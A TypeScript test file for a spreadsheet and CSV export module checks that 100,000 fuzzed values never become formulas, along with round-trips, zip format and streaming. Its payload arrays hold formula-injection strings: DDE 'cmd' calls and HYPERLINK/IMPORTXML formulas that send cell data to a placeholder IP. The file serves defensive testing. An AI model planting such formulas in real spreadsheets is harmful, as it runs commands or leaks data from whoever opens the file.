import ExcelJS from "exceljs";
import fc from "fast-check";
import { parseCsv } from "hucre/csv";
import { streamXlsxRows, writeXlsxStream } from "hucre/xlsx";
import { expect, test } from "vitest";
import { cellText } from "../../kernel/workbook.ts";
import { workbook } from "./workbook.ts";

const sheet = { name: "รายงาน", header: ["ก", "ข", "ค", "ง"] };
const limits = { rows: 200_000, columns: 50 };

async function* each<Row>(rows: readonly Row[]): AsyncGenerator<Row> {
  yield* rows;
}

async function bytesOf(stream: ReadableStream<Uint8Array>): Promise<Uint8Array> {
  return new Uint8Array(await new Response(stream as ReadableStream<Uint8Array<ArrayBuffer>>).arrayBuffer());
}

/** Beginnings that make spreadsheets calculate, call programs or open addresses. */
const begins = ["=", "+", "-", "@", "\t", "\r", "\n", "\t=", "＝", "＋", "'", " =", "\ufeff=", '"='];
const tails = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://203.0.113.9/?"&A1)',
  "SUM(A1:A9)*cmd|'/c x'!A1",
  'IMPORTXML(CONCAT("http://203.0.113.9/",A1),"//a")',
  "0812345678",
  "</t></is></c><c><f>1+1</f></c>",
  "<![CDATA[=1]]>&#61;1",
  "2569-11-21",
  "1e5",
];

/** 100,000 texts from one seed: dangerous beginnings with dangerous tails, and any characters there are. */
function fuzzed(): string[] {
  const dangerous = fc
    .tuple(fc.constantFrom(...begins), fc.constantFrom(...tails), fc.string({ maxLength: 12 }))
    .map((parts) => parts.join(""));
  const long = fc
    .tuple(fc.constantFrom(...begins), fc.integer({ min: 1, max: 60 }))
    .map(([a, n]) => a + "ยาว".repeat(n));
  const any = fc.string({ unit: "binary", maxLength: 20 });
  return fc.sample(fc.oneof({ weight: 5, arbitrary: dangerous }, { weight: 1, arbitrary: long }, any), {
    numRuns: 100_000,
    seed: 2569,
  });
}

function inRows(values: readonly string[], width: number): string[][] {
  return Array.from({ length: values.length / width }, (_, at) => values.slice(at * width, (at + 1) * width));
}

test("100,000 hostile values make no formula and come back equal, read by exceljs and by hucre", async () => {
  const values = [...fuzzed().slice(1), `=${"x".repeat(40_000)}`];
  const wanted = inRows(values.map(cellText), 4);
  const bytes = await bytesOf(workbook.writeXlsx(sheet, each(inRows(values, 4))));

  const read = new ExcelJS.Workbook();
  await read.xlsx.load(bytes.buffer as ArrayBuffer);
  const kinds = new Set<ExcelJS.ValueType>();
  const found: string[][] = [];
  read.worksheets[0]!.eachRow({ includeEmpty: true }, (row, line) => {
    if (line === 1) return;
    const cells = [1, 2, 3, 4].map((column) => row.getCell(column));
    cells.forEach(({ type }) => kinds.add(type));
    found.push(cells.map(({ value }) => (value === null ? "" : (value as string))));
  });
  const texts = [ExcelJS.ValueType.String, ExcelJS.ValueType.Null];
  expect([...kinds].filter((kind) => !texts.includes(kind))).toEqual([]);
  expect(found).toEqual(wanted);

  const streamed: string[][] = [];
  for await (const { index, values: cells } of streamXlsxRows(bytes)) {
    if (index > 0) streamed.push([0, 1, 2, 3].map((at) => (cells[at] ?? "") as string));
  }
  expect(streamed).toEqual(wanted);
}, 120_000);

test("a text that says a character by its number stays that text", async () => {
  const bytes = await bytesOf(
    workbook.writeXlsx(sheet, each([["_x0041_", "a_X000D_b", "_x41_", "__x0041_"]])),
  );
  expect(await workbook.read(bytes, limits)).toMatchObject({
    value: [{ line: 1 }, { line: 2, cells: ["_x0041_", "a_X000D_b", "_x41_", "__x0041_"] }],
  });
});

test("a csv comes back as it was written, and no cell of it begins like a formula", async () => {
  const values = fuzzed().slice(0, 20_000).map(cellText);
  const rows = inRows(values, 4).map((row) => [...row, "."]);
  const bytes = await bytesOf(workbook.writeCsv(sheet, each(rows)));
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const raw = parseCsv(new TextDecoder().decode(bytes), { delimiter: "," }).slice(1) as string[][];
  expect(raw.flat().filter((cell) => /^\s*[=+\-@]/.test(cell) && !cell.startsWith("\t"))).toEqual([]);
  const read = await workbook.read(bytes, limits);
  expect(read.ok && read.value.slice(1).map(({ cells }) => cells)).toEqual(rows);
});

test("what a hospital's program looks rows up by stands in a csv byte for byte", async () => {
  const keys = ["00901", "0123456789012", "PP0012345678", "21/11/2569 09:05:00"];
  const bytes = await bytesOf(workbook.writeCsv(sheet, each([keys])));
  expect(new TextDecoder().decode(bytes).split("\r\n")[1]).toBe(keys.map((key) => `"${key}"`).join(","));
});

test("a workbook is a plain zip: LibreOffice does not open zip64 as a stream writes it", async () => {
  const bytes = await bytesOf(workbook.writeXlsx(sheet, each([["ก", "", "", ""]])));
  const view = new DataView(bytes.buffer);
  const places = Array.from({ length: bytes.length - 46 }, (_, at) => at);
  const needed = places
    .filter((at) => view.getUint32(at, true) === 0x02014b50)
    .map((at) => view.getUint16(at + 6, true));
  expect(needed).toHaveLength(7);
  expect(Math.max(...needed)).toBeLessThan(45);
});

test("a sheet that is full goes on in the next, with the header again", async () => {
  const rows = inRows(
    Array.from({ length: 40 }, (_, at) => String(at)),
    4,
  );
  const stream = writeXlsxStream(rows, { name: "ก", columns: [{ header: "หัว" }], maxRowsPerSheet: 4 });
  const read = new ExcelJS.Workbook();
  await read.xlsx.load((await bytesOf(stream)).buffer as ArrayBuffer);
  expect(read.worksheets.map(({ name, rowCount }) => [name, rowCount])).toEqual([
    ["ก", 4],
    ["ก_2", 4],
    ["ก_3", 4],
    ["ก_4", 2],
  ]);
});

test.each(["writeXlsx", "writeCsv"] as const)(
  "%s asks for rows only as they are taken, and ends them when cancelled",
  async (write) => {
    let asked = 0;
    let isEnded = false;
    async function* endless(): AsyncGenerator<string[]> {
      try {
        for (;;) yield [String(asked++), "ข้อความยาวพอสมควร".repeat(20)];
      } finally {
        isEnded = true;
      }
    }
    const reader = workbook[write](sheet, endless()).getReader();
    await reader.read();
    await reader.read();
    const before = asked;
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(before).toBeLessThan(20_000);
    await reader.cancel();
    expect(isEnded).toBe(true);
  },
);
